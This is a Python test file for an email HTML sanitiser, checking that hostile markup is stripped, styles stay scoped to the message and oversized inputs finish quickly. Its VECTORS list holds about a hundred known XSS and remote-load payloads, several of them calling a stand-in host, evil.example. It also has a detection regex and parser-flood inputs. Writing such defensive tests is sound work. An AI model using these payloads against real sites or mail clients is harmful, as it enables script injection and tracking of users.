"""HTML of strangers: what must go, what must stay, and how long it may take."""

import html as markup
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from mailkeep.mail.html_limits import ATTRIBUTES_MAX, is_hostile, tame
from mailkeep.mail.safe_css import Styles
from mailkeep.mail.safe_html import SafeHtml, sanitise

PICTURE = "data:image/png;base64,iVBORw0KGgo="
OURS = {"cid:a@x": "files/1.png", "b.gif": "files/2.gif", "http://x.org/c.gif": "files/3.gif"}


def safe(html: str) -> SafeHtml:
    return sanitise(html, resolve=OURS.get)


# Ways to run or load something, as they are known from the field: each written by us.
VECTORS = """
<script>alert(1)</script>
<SCRIPT/SRC=//evil.example/x.js></SCRIPT >
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror = 'alert(1)'>
<img/src=x/onerror=alert(1)//>
<img src=`x`onerror=alert(1)>
<img src=javascript:alert(1)>
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="data:text/html;base64,PHNjcmlwdD4=">
<img src="https://evil.example/x.png">
<img src=" https://evil.example/x.png">
<img src="ht&#x0a;tps://evil.example/x.png">
<img srcset="https://evil.example/x.png 2x">
<img src=//evil.example/x>
<img src="\\\\evil.example\\share\\x.png">
<img src="file://evil.example/share/x.png">
<img src="/etc/passwd">
<image src="https://evil.example/x.png">
<picture><source srcset="https://evil.example/x"><img></picture>
<input type=image src="https://evil.example/x">
<a href="javascript:alert(1)">x</a>
<a href="JaVa&Tab;ScRiPt&colon;alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="../../../../etc/passwd">x</a>
<a href="https://ok.example/" ping="https://evil.example/" onclick="alert(1)" target=_self>x</a>
<svg onload=alert(1)><circle></svg>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1)></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<style><img title="</style><img src=x onerror=alert(1)>"></style>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">
<applet code=X></applet><bgsound src="https://evil.example/x"><layer src="https://evil.example/x">
<video poster="https://evil.example/x" src="https://evil.example/y"><track src="https://evil.example/z"></video>
<base href="https://evil.example/"><img src="x.png">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="Set-Cookie" content="a=b">
<link rel=stylesheet href="https://evil.example/x.css"><link rel=import href="https://evil.example/">
<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>
<isindex action="javascript:alert(1)"><keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>
<body onload=alert(1) background="https://evil.example/x" style="background:url(https://evil.example/y)">
<html onmouseover=alert(1)><frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<table background="https://evil.example/x"><td background="javascript:alert(1)">x</table>
<div style="background:url(https://evil.example/x)">x</div>
<div style="background:u\\72l(https://evil.example/x)">x</div>
<div style="background:URL( 'https://evil.example/x' )">x</div>
<div style="background-image:image-set('https://evil.example/x' 1x)">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x#y)">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">over everything</div>
<div style="position:/**/absolute;margin-top:-500px">over the header</div>
<div style="p\\6fsition:fixed;inset:0">x</div>
<div style='color:red"onmouseover="alert(1)'>x</div>
<div style="--x:url(https://evil.example/x);background:var(--x)">x</div>
<div style="content:url(https://evil.example/x);cursor:url(https://evil.example/x),auto">x</div>
<style>@import "https://evil.example/x.css"; @import url(//evil.example/y.css);</style>
<style>@font-face{font-family:x;src:url(https://evil.example/f)} *{font-family:x}</style>
<style>a[href^=x]{background:url(https://evil.example/?x)}</style>
<style>*{position:fixed} body{position:sticky;behavior:url(x)}</style>
<style>x{y:z}</style/><img src=x onerror=alert(1)>
<style>p{font-family:'</style><img src=x onerror=alert(1)>'}</style>
<style>p{color:red}/*</style><img src=x onerror=alert(1)>*/</style>
<style><!--</style><img src=x onerror=alert(1)>--></style>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><?import namespace="t" implementation="#default#time2"?>
<p title="a" x="><script>alert(1)</script>">x
<p <script>alert(1)</script>>x
<marquee onstart=alert(1)>x</marquee><blink>x</blink>
<plaintext><script>alert(1)</script>
<template><script>alert(1)</script></template><slot name=x></slot>
<custom-element onclick=alert(1)>x</custom-element><portal src="https://evil.example/">
<a id=x name=x></a><img name=body id=cookie src=x>
</div></div></main></body></html><script>alert(1)</script>
</style><script>alert(1)</script>
<p class="mk-files mk-head">not ours</p>
<v:shape style="behavior:url(#default#VML)"><v:imagedata src="https://evil.example/x"></v:shape>
<p style="list-style-image:url(data:image/svg+xml;base64,PHN2Zz4=)">x
<select><option><script>alert(1)</script></select><math><select><mi><style><img src=x onerror=alert(1)>
\0<\0script>alert(1)</script>
<ſcript>alert(1)</ſcript>
<a href="https://ok.example/\u202egpj.exe">x</a>
""".strip().splitlines()  # fmt: skip

FOREIGN = re.compile(
    r"evil\.example|javascript:|vbscript:|expression|position|behavior|-moz-binding|@import|@font-face"
)
ALLOWED_URLS = re.compile(r"https?://|mailto:|tel:|#|files/\d|data:image/(?:png|gif|jpeg)")


def assert_harmless(html: str) -> None:
    """What a browser makes of it has nothing that runs or loads. (Text may say anything.)"""
    tree = LexborHTMLParser(f"<!DOCTYPE html><body><main>{html}</main><i id=after></i>")
    assert not tree.css("script, iframe, object, embed, form, input, button, svg, math, meta, base, link, video, audio")
    after = tree.css_first("#after")
    assert after is not None
    assert after.parent is not None
    assert after.parent.tag == "body", "it leaves its place"
    for node in tree.css("main *"):
        for name, value in node.attributes.items():
            text = value or ""
            assert not name.startswith("on"), name
            assert name not in ("srcset", "ping", "formaction", "action", "poster", "xlink:href")
            if name in ("href", "src", "background"):
                assert ALLOWED_URLS.match(text), text
            if name == "src":
                assert "://" not in text
            if name == "style":
                assert not FOREIGN.search(text.lower()), text
                assert "url(h" not in text.lower()
            if name == "class" and node.tag == "p":
                assert "mk-" not in text
        if node.tag == "style":
            assert not FOREIGN.search((node.text() or "").lower()), node.text()


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_runs_or_loads(vector: str) -> None:
    for html in (vector, f"<table><tr><td>{vector}", f"<svg>{vector}", f"<p title='{vector}", f"<!--{vector}"):
        assert_harmless(safe(html).html)


@given(
    st.lists(st.sampled_from([*VECTORS, "<", ">", '"', "'", "<!--", "-->", "</", "<p ", "=", "\0", "&lt;"]), max_size=6)
)
def test_nothing_runs_or_loads_in_any_mixture(pieces: list[str]) -> None:
    assert_harmless(safe("".join(pieces)).html)


@given(st.sampled_from(VECTORS), st.data())
def test_nothing_runs_or_loads_when_cut(vector: str, draw: st.DataObject) -> None:
    at = draw.draw(st.integers(0, len(vector)))
    assert_harmless(safe(vector[at:] + vector[:at]).html)


KEPT = [
    "<table bgcolor=\"#eeeeee\" width=\"600\" cellpadding=\"0\" cellspacing=\"0\" align=\"center\" border=\"0\">",
    '<td valign="top" width="50%" bgcolor="red" nowrap="" colspan="2" style="padding:10px 20px;color:#333333">',
    "<center>", '<font face="Arial" size="2" color="#ff0000">', '<p class="intro big" dir="rtl" lang="he">',
    '<div style="font-family:\'Segoe UI\',Arial,sans-serif;background:#fff;border-radius:4px">', "<blockquote>",
    '<a href="https://x.org/?a=b&amp;c=d" rel="noreferrer noopener">',
    '<a href="mailto:a@x.org" rel="noreferrer noopener">',
    '<img src="files/1.png" alt="ours" width="10">', f'<img src="{PICTURE}">', '<hr size="1" noshade="">', "<h1>",
    '<ol start="3" type="a">', "<pre>", "<sup>", "<del>", "<ruby>",
]  # fmt: skip


@pytest.mark.parametrize("tag", KEPT)
def test_what_mail_is_made_of_stays(tag: str) -> None:
    written = tag.replace("files/1.png", "cid:a@x").replace(' rel="noreferrer noopener"', "")
    inside = f"<table><tr>{written}" if tag.startswith("<td") else written
    assert tag in safe(inside).html.replace("&quot;", "'")


def test_sheets_are_bound_to_the_mail() -> None:
    sheet = """body, html { margin: 0 } .intro > a:hover, #top td { color: red !important } * { color: blue }
    @media only screen and (max-width: 600px) { .w { width: 100% !important } } td { background: url('cid:a@x') }
    u + .body .x { display: none } p::before { content: "x"; color: green } @charset "x"; @page { margin: 0 }"""
    html = sanitise(f"<style>{sheet}</style><p id=top>x<a href='#top'>up</a>", resolve=OURS.get, scope="mk-mail-7").html
    for rule in (
        ".mk-mail-7 .mk-body{margin:0}",
        ".mk-mail-7 .intro > a:hover,.mk-mail-7 #mk-mail-7-top td{color:red !important}",
        ".mk-mail-7 *{color:blue}",
        "@media only screen and (max-width: 600px){.mk-mail-7 .w{width:100% !important}}",
        '.mk-mail-7 td{background:url("files/1.png")}',
        ".mk-mail-7 u + .body .x{display:none}",
        ".mk-mail-7 p::before{color:green}",
        '<p id="mk-mail-7-top">x<a href="#mk-mail-7-top"',
    ):
        assert rule in html
    assert "@page" not in html
    assert "content" not in html


def test_the_body_element_stays_as_a_div() -> None:
    found = safe(
        '<html dir=rtl><body bgcolor="#123456" text=white link=red class="b c" style="margin:0" background="cid:a@x">x'
    )
    assert 'class="mk-body b c"' in found.html
    style = re.search(r'class="mk-body b c" style="([^"]*)"', found.html)
    assert style is not None
    assert (
        markup.unescape(style[1]) == 'background-color:#123456;color:white;background-image:url("files/1.png");margin:0'
    )
    assert found.text_direction == "rtl"
    assert ".mk-mail a{color:red}" in found.html


def test_pictures_from_elsewhere_are_told() -> None:
    found = safe(
        '<img src="http://e.org/logo" alt="A &lt;b&gt; &quot;logo&quot;"><img src=http://e.org/p width=1 height=1>'
        "<img src=http://e.org/s width=20 height=10><table background=http://e.org/b></table><p style='background:url(http://e.org/c)'>"
    )
    assert found.blocked == 5
    assert '<span class="mk-picture">A &lt;b&gt; &quot;logo&quot;</span>' in found.html
    assert found.html.count("<img") == 0
    assert "width:20px;height:10px" in found.html
    assert safe('<img src="cid:a@x"><img src="http://x.org/c.gif"><img src=b.gif>').blocked == 0


def test_conditional_comments() -> None:
    html = safe("<!--[if mso]><p>word</p><![endif]--><!--[if !mso]><!--><p>others</p><!--<![endif]-->").html
    assert "others" in html
    assert "word" not in html


def test_direction_is_found() -> None:
    assert safe("<p>שלום</p>").text_direction == "rtl"
    assert safe("<p>123 &amp; hello</p>").text_direction == "ltr"
    assert safe("<p>123</p>").text_direction == "auto"


FLOODS = {
    "nested": "<div>" * 200_000,
    "unclosed": "<b>" * 100_000,
    "crossed": "</b><div>" * 20_000,
    "paragraphs": "<p><b>" * 20_000,
    "links": "<a href=x>" * 30_000,
    "tables": "<table><tr><td>" * 10_000,
    "forms": "<form>" * 100_000,
    "pictures": "<img src=http://e.org/x>" * 20_000,
    "angles": "<" * 500_000,
    "comments": "<!--" * 200_000,
    "attributes": "<p " + " ".join(f"a{n}" for n in range(100_000)) + ">",
    "attributes out of a comment": '<!--<a x="--><p y=\'">' + " ".join(f"a{n}" for n in range(100_000)) + "' z>",
    "quotes": "<a '" * 200_000,
    "styles": "<p style='background:linear-gradient(red,blue) \\41'>x</p>" * 5_000,
    "long style": "<p style='" + "color:red;" * 100_000 + "'>",
    "brackets": "<style>a{b:" + "(" * 200_000 + "</style>",
    "rules": "<style>" + "a{color:red}" * 20_000 + "</style>",
    "selectors": "<style>" + "a," * 100_000 + "b{color:red}</style>",
    "strings": "<style>" + "'" * 200_000 + "</style>",
    "sheets": "<style>a{color:red}</style>" * 10_000,
    "entities": "&lt;" * 500_000,
    "data": f"<img src='data:image/png;base64,{'A' * 3_000_000}'>",
}


@pytest.mark.parametrize("name", FLOODS)
def test_floods_end_soon(name: str) -> None:
    # What takes more than linear time here does not end within the run at all.
    found = safe("word " + FLOODS[name])
    assert "word" in found.html


def test_html_nested_too_deep_is_shown_as_text() -> None:
    found = safe("<div>" * 5000 + "a &amp; <script>b</script><i>c")
    assert found.as_text
    assert re.sub(r"\s+", " ", found.html) == '<div class="mk-mail"><pre dir="auto">a &amp; c</pre></div>'


def test_long_threads_of_replies_are_not() -> None:
    assert not safe("<div><blockquote><div>" * 100 + "x" + "</div></blockquote></div>" * 100).as_text


def test_tamed_markup_means_the_same() -> None:
    html = "<p class=\"a>b\" title='c<d' x=y/ checked>text</p><br/><a href=https://x.org/?a<b>l</a>" * 400
    nodes = [[(node.tag, node.attributes) for node in LexborHTMLParser(text).css("*")] for text in (html, tame(html))]
    assert len(html) > 20_000
    assert nodes[0] == nodes[1]


@given(st.text(alphabet="<>/= \"'ab!-\n", max_size=60))
def test_tamed_markup_has_no_long_tag(text: str) -> None:
    # Whatever stands around it, the parser sees no tag of more attributes than are allowed.
    html = text + '<!--<a x="-->' + text + " ".join(f"a{n}" for n in range(6000)) + text + "'>\">"
    for node in LexborHTMLParser(tame(html)).css("*"):
        assert len(node.attributes) <= ATTRIBUTES_MAX + 60


def test_depth_is_seen() -> None:
    assert is_hostile("<div>" * 300)
    assert not is_hostile("<div>" * 300, depth_max=400)
    assert not is_hostile("<p>x<br>" * 10_000)


ATTRIBUTES = [
    ("color:red", "color:red"),
    ("COLOR : Red ;; margin:0 auto", "color:Red;margin:0 auto"),
    ("margin:-1px;margin-left:calc(-1px);margin: 0 -2em", ""),
    ("width:calc(100% - 10px)", "width:calc(100% - 10px)"),
    ("color:red}body{color:blue", ""),
    ("color:red;x", "color:red"),
    ("font:12px/1.5 'A;B', serif", 'font:12px/1.5 "A;B", serif'),
    ("background:url(cid:a@x) no-repeat", 'background:url("files/1.png") no-repeat'),
    ("background:url(http://e.org/) red", "background:red"),
    ("background:linear-gradient(red, url(http://e.org/))", "background:linear-gradient(red, )"),
    ("color:rgb(1,2,3)!important", "color:rgb(1,2,3)!important"),
    ("mso-hide:all;-webkit-text-size-adjust:100%", "-webkit-text-size-adjust:100%"),
    ("unknown:1;position:relative;z-index:2;top:0", ""),
    ("color:var(--x);width:env(x);height:attr(y)", ""),
]


@pytest.mark.parametrize(("written", "kept"), ATTRIBUTES)
def test_style_attributes(written: str, kept: str) -> None:
    assert Styles(OURS.get, scope="s").attribute(written) == kept


@given(st.text(alphabet="ab:;-(){}'\"\\/*!@#%. \n<>url", max_size=60))
def test_styles_never_leave_their_place(text: str) -> None:
    styles = Styles(OURS.get, scope="s")
    assert "<" not in styles.sheet(text)
    assert_harmless(f'<style>{styles.sheet(text)}</style><p style="{markup.escape(styles.attribute(text))}">x</p>')


def test_what_word_writes_for_itself_counts_for_nothing() -> None:
    """Word's head has hundreds of elements without an end, in a comment that only Word reads."""
    styles = '<w:LsdException Locked="false" Name="Normal"/>' * 400
    head = f"<!--[if gte mso 9]><xml><w:LatentStyles>{styles}</w:LatentStyles></xml><![endif]-->"
    style = "<style><!-- p.MsoNormal { color: #123456 } --></style>"
    revealed = "<!--[if !mso]><!--><b>for the others</b><!--<![endif]-->"
    safe = sanitise(f"{head}{style}{revealed}<p class=MsoNormal>Body</p>", resolve=lambda _: None)
    assert not safe.as_text
    assert "<b>for the others</b>" in safe.html and "#123456" in safe.html and "LsdException" not in safe.html


def test_conditional_comments_without_an_end_take_linear_time() -> None:
    assert "Body" in sanitise("<p>Body</p>" + "<!--[if" * 300_000, resolve=lambda _: None).html


@pytest.mark.parametrize(
    "rule",
    [
        "html{overflow:visible !important}",
        ":root{display:contents}",
        "html{outline:900px solid red;box-shadow:0 0 0 900px red}",
        "p,html{overflow:visible;margin:0 -9px}",
        "html{quotes:'a;color:red}*{display:none';position:fixed;float:left}",
        "@media all{html{overflow:visible}}",
    ],
)
def test_a_mail_cannot_leave_the_box_that_it_is_shown_in(rule: str) -> None:
    """Or it would paint over the header above it, and say who it is from."""
    made = sanitise(f"<style>{rule}</style><p>x", resolve=lambda _: None).html
    for found in re.findall(r"\.mk-mail\{([^}]*)\}", made):
        assert not re.search(r"(?:^|;)(?:overflow|display|outline|box-shadow|margin|float)", found), made


def test_the_whole_mail_keeps_its_looks() -> None:
    style = "html,p{background:#eee;color:red;overflow:hidden;font:12px 'A;b'}"
    made = sanitise(f"<style>{style}</style><p>x", resolve=lambda _: None).html
    assert '.mk-mail{background:#eee;color:red;font:12px "A;b"}' in made
    assert '.mk-mail p{background:#eee;color:red;overflow:hidden;font:12px "A;b"}' in made


@pytest.mark.parametrize("selector", ["~ *", "+ div", "> p", "~ .mk-files, + *"])
def test_a_selector_reaches_nothing_beside_the_mail(selector: str) -> None:
    assert "<style>" not in sanitise(f"<style>{selector}{{color:red}}</style><p>x", resolve=lambda _: None).html
